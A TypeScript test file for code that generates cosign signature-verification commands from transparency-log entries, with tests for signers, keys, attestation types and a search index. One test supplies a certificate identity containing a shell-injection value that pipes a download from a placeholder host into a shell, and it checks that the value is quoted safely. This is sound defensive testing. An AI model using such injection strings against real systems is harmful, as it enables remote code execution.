// SPDX-License-Identifier: Apache-2.0

import { describe, expect, it } from "vitest";
import { COSIGN_SIGN_TYPE, cosignCommands } from "./command.ts";
import { type SignatureFacts, type Signed, withIndexed } from "./entry.ts";
import type { Signer } from "./signer.ts";

const signer = {
  kind: "person",
  identity: "alice@example.com",
  issuer: "https://issuer.example",
  build: {},
  workflow: null,
} as const;

const factsOf = (signed: Signed, who: Signer | null = signer): SignatureFacts =>
  ({ signed, holder: who === null ? null : { signer: who } }) as unknown as SignatureFacts;

const DIGEST = { kind: "digest" } as const;
const statement = (predicateType: string | null, subjects: readonly string[] | null = ["sha256:00"]): Signed => ({
  kind: "statement",
  predicateType,
  subjects,
});

/** Each command in one line, without the download of the trusted root. */
const commandsOf = (facts: SignatureFacts): readonly string[] =>
  cosignCommands(facts, "https://sign.example").map(
    ({ text }) => text.replaceAll(" \\\n ", "").split("\n")[1] ?? "none",
  );

const SLSA = "https://slsa.dev/provenance/v1";
const ROOT = "--trusted-root trusted_root.json";
const BUNDLE = "--bundle FILE.sigstore.json";
const WHO = "--certificate-identity alice@example.com --certificate-oidc-issuer https://issuer.example";

describe("the commands of an entry", () => {
  it.each([
    [
      "a digest of something",
      factsOf(DIGEST),
      [
        `verify-blob ${ROOT} ${BUNDLE} ${WHO} FILE`,
        `verify-blob-attestation ${ROOT} ${BUNDLE} --type TYPE ${WHO} FILE`,
        `verify ${ROOT} ${WHO} IMAGE@sha256:DIGEST`,
        `verify-attestation ${ROOT} --type TYPE ${WHO} IMAGE@sha256:DIGEST`,
      ],
    ],
    [
      "a digest by a key",
      factsOf(DIGEST, null),
      [
        `verify-blob ${ROOT} ${BUNDLE} --key KEY.pub FILE`,
        `verify-blob-attestation ${ROOT} ${BUNDLE} --type TYPE --key KEY.pub FILE`,
        `verify ${ROOT} --key KEY.pub IMAGE@sha256:DIGEST`,
        `verify-attestation ${ROOT} --type TYPE --key KEY.pub IMAGE@sha256:DIGEST`,
      ],
    ],
    [
      "a statement",
      factsOf(statement(SLSA)),
      [
        `verify-blob-attestation ${ROOT} ${BUNDLE} --type ${SLSA} ${WHO} FILE`,
        `verify-attestation ${ROOT} --type ${SLSA} ${WHO} IMAGE@sha256:00`,
      ],
    ],
    [
      "a statement that the index names no type of",
      factsOf(statement(null, null)),
      [
        `verify-blob-attestation ${ROOT} ${BUNDLE} --type TYPE ${WHO} FILE`,
        `verify-attestation ${ROOT} --type TYPE ${WHO} IMAGE@sha256:DIGEST`,
      ],
    ],
    ["an image", factsOf(statement(COSIGN_SIGN_TYPE)), [`verify ${ROOT} ${WHO} IMAGE@sha256:00`]],
  ])("verify %s", (_, facts, commands) =>
    expect(commandsOf(facts)).toEqual(commands.map((command) => `cosign ${command}`)),
  );

  it("quote what a hostile certificate names", () => {
    const hostile = { ...signer, identity: "a'; curl evil | sh #" };
    for (const command of commandsOf(factsOf(DIGEST, hostile))) {
      expect(command).toContain(`--certificate-identity 'a'\\''; curl evil | sh #'`);
    }
  });

  it.each([{ identity: "" }, { issuer: null }])("are none where a client could not name the signer: %j", (part) => {
    expect(cosignCommands(factsOf(DIGEST, { ...signer, ...part }), "https://sign.example")).toEqual([]);
  });
});

describe("the search index", () => {
  it.each([
    ["an attestation that somebody sent", DIGEST, { kind: "attestation", predicateType: SLSA }, statement(SLSA, null)],
    ["a signature", DIGEST, { kind: "signature", predicateType: null }, DIGEST],
    ["nothing", DIGEST, null, DIGEST],
    ["what the log has better", statement(null), { kind: "attestation", predicateType: SLSA }, statement(null)],
  ] as const)("knows %s", (_, signed, hit, known) => {
    expect(withIndexed(factsOf(signed), hit).signed).toEqual(known);
  });
});
